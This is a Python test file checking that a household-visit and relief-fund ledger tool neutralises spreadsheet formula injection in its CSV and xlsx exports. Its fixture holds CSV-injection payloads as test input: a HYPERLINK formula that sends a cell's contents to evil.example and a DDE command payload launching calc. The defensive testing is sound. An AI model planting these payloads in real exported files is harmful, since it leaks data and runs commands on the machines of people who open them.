"""No output carries a live formula (issue 21, part 4).

One CSV writer and one xlsx writer serve every command. In CSV, a text cell beginning with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``; numbers (money,
counts) are never touched, so ``-100.00`` stays a number. In xlsx, text is a text cell
(``data_type == "s"``) holding exactly what was typed, in the Text format, never a formula.
Every listing's ``--format csv``, the notice (csv and xlsx), the report's CSV and the export
are tried with text a spreadsheet would run.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from helpers import FUND, ok, valid_id

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
VILLAGE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.fixture
def poisoned(zf):
    """A ledger whose text begins with formula triggers wherever people type text."""
    ok(zf("cadre", "add", "--name", "王建国", "--unit", "+86 镇政府"))
    ok(zf("category", "add", "flood", "--label", "@受灾户", "--cadence", "30"))
    ok(
        zf(
            "enroll",
            "--name",
            "陈大爷",
            "--id-number",
            valid_id("11010119450307123"),
            "--village",
            VILLAGE,
            "--grid",
            "-一组",
            "--category",
            "low-income",
            "--category",
            "flood",
            "--cadre",
            "C0001",
        )
    )
    ok(
        zf(
            "visit",
            "log",
            "H000001",
            "--by",
            "C0001",
            "--date",
            "2026-11-20",
            "--notes",
            "=1+1 坐了坐",
            "--need",
            "-修缮屋顶",
            "--wish",
            "@收音机",
        )
    )
    ok(
        zf(
            "fund",
            "create",
            FUND,
            "--name",
            "=SUM(1,2)",
            "--source",
            "+县财政",
            "--category",
            "flood",
        )
    )
    ok(zf("fund", "allocate", FUND, "5000", "--memo", "=cmd|' /C calc'!A0"))
    ok(zf("fund", "disburse", FUND, "H000001", "100", "--by", "C0001", "--memo", "-慰问"))
    ok(zf("fund", "reverse", "2", "--reason", "@重复发放"))
    ok(zf("fund", "disburse", FUND, "H000001", "200", "--by", "C0001"))


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def assert_formula_safe(text: str, *, expect_neutralised: bool = True) -> list[str]:
    cells = _cells(text)
    live = [c for c in cells if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c)]
    assert not live, live
    if expect_neutralised:
        assert any(c.startswith("'") and c[1:].startswith(TRIGGERS) for c in cells), cells
    return cells


LISTINGS = [
    (["household", "list"], True),
    (["household", "show", "H000001"], True),
    (["due", "--days", "365"], True),
    (["visit", "list"], True),
    (["commitment", "list"], True),
    (["cadre", "list"], True),
    (["category", "list"], True),
    (["fund", "list"], True),
    (["fund", "show", FUND], True),
    (["audit", "funds"], False),
    (["audit", "visits"], False),
    (["report", "--since", "2026-01-01", "--until", "2026-12-31"], True),
    (["notice", FUND], True),
]


@pytest.mark.parametrize("args, text", LISTINGS, ids=[" ".join(a[:2]) for a, _t in LISTINGS])
def test_every_listing_csv_is_formula_safe(zf, poisoned, args, text):
    result = zf(*args, "--format", "csv")
    assert result.exit_code in (0, 1), result.stderr  # audits exit 1 on findings
    assert_formula_safe(result.stdout, expect_neutralised=text)


def test_a_negative_amount_stays_a_number_and_text_that_looks_like_one_does_not():
    from zoufang.output import Format, Money, render

    out = io.StringIO()
    rows = [{"amount": Money(-10000), "memo": "-100.00", "count": -3}]
    render(rows, [("amount", "a"), ("memo", "m"), ("count", "c")], Format.csv, out=out)
    # money and counts are numbers: a spreadsheet reads -100.00 as minus one hundred; the
    # same characters typed as text are text, and are neutralised like any text
    assert out.getvalue() == "amount,memo,count\n-100.00,'-100.00,-3\n"


def test_the_notice_csv_file_is_formula_safe(zf, poisoned, tmp_path):
    out = tmp_path / "notice.csv"
    ok(zf("notice", FUND, "--format", "csv", "--out", out))
    text = out.read_text(encoding="utf-8-sig")
    cells = assert_formula_safe(text)
    assert "'" + VILLAGE in cells


def test_a_writing_commands_csv_output_is_formula_safe(zf, poisoned):
    out = ok(zf("fund", "allocate", FUND, "50", "--memo", "=1", "-f", "csv"))
    assert_formula_safe(out.stdout)


@pytest.mark.parametrize("table", ["households", "visits", "commitments", "ledger"])
def test_export_csv_is_formula_safe(zf, poisoned, tmp_path, table):
    out = tmp_path / f"{table}.csv"
    ok(zf("export", "--format", "csv", "--table", table, "--out", out, "--lang", "en"))
    assert_formula_safe(out.read_text(encoding="utf-8-sig"))


def _text_cells(path, sheet=None):
    import openpyxl

    book = openpyxl.load_workbook(path)
    for ws in [book[sheet]] if sheet else book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    yield c


def test_the_notice_xlsx_holds_text_cells_never_formulas(zf, poisoned, tmp_path):
    out = tmp_path / "notice.xlsx"
    ok(zf("notice", FUND, "--format", "xlsx", "--out", out, "--reveal"))
    cells = list(_text_cells(out))
    assert all(c.data_type == "s" for c in cells)
    village = [c for c in cells if c.value == VILLAGE]  # exactly as typed: no apostrophe
    assert village and all(c.number_format == "@" for c in village)


def test_the_export_xlsx_holds_text_cells_never_formulas(zf, poisoned, tmp_path):
    out = tmp_path / "all.xlsx"
    ok(zf("export", "--out", out, "--lang", "en"))
    cells = list(_text_cells(out))
    assert all(c.data_type == "s" for c in cells)
    values = {c.value for c in cells}
    assert {VILLAGE, "=1+1 坐了坐", "-修缮屋顶", "=SUM(1,2)", "@重复发放"} <= values
    assert not any(v.startswith("'") for v in values)
